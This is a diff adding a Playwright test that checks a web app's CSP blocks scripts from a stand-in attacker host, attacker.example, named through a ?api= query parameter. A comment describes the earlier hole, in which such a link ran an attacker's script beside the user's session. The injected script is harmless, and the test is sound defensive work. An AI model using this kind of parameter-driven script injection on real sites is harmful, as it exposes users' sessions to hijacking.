@@ -91,3 +91,34 @@ test.describe('script tag on a third-party page with hostile CSS', () => {
     await expect(page.locator('fiu-login').getByRole('alert')).toHaveText('Password is incorrect');
   });
 });
+
+// Issue 7 item 1 (SECURITY.md: the app origin runs only the scripts it ships). The demo server serves the
+// example host page on the app's own origin; its ?api= once chose where the loader came from, so a link to
+// /examples/script-tag/?api=http://attacker ran the attacker's script beside the app's session.
+test('the app origin never runs a foreign script, whatever ?api= says', async ({ page }) => {
+  const FOREIGN = 'http://attacker.example';
+  const hostile = 'window.__foreign = (window.__foreign || 0) + 1;';
+  await page.route(`${FOREIGN}/**`, (route) =>
+    route.fulfill({ status: 200, contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' }, body: hostile }),
+  );
+  // The foreign origin really serves a script that runs where it is allowed to (the test can fail).
+  await page.goto(`${STATIC_HOST}/script-tag/index.html?api=${encodeURIComponent(API)}`);
+  await page.evaluate((src) => document.head.append(Object.assign(document.createElement('script'), { src })), `${FOREIGN}/x.js`);
+  await expect.poll(() => page.evaluate(() => (window as unknown as { __foreign?: number }).__foreign)).toBe(1);
+
+  await page.goto(`${API}/examples/script-tag/?api=${encodeURIComponent(FOREIGN)}`);
+  // The page still works, with the loader of its own origin…
+  await expect(page.locator('fiu-authorize').getByRole('button', { name: 'Continue' })).toBeVisible();
+  // …and no foreign script ran: not the one ?api= named, nor one a page script adds (CSP script-src 'self').
+  const blocked = page.evaluate(
+    (src) =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
+        document.head.append(Object.assign(document.createElement('script'), { src, onload: () => resolve('ran') }));
+      }),
+    `${FOREIGN}/y.js`,
+  );
+  expect(await blocked).toBe('script-src-elem');
+  expect(await page.evaluate(() => (window as unknown as { __foreign?: number }).__foreign)).toBeUndefined();
+});
+
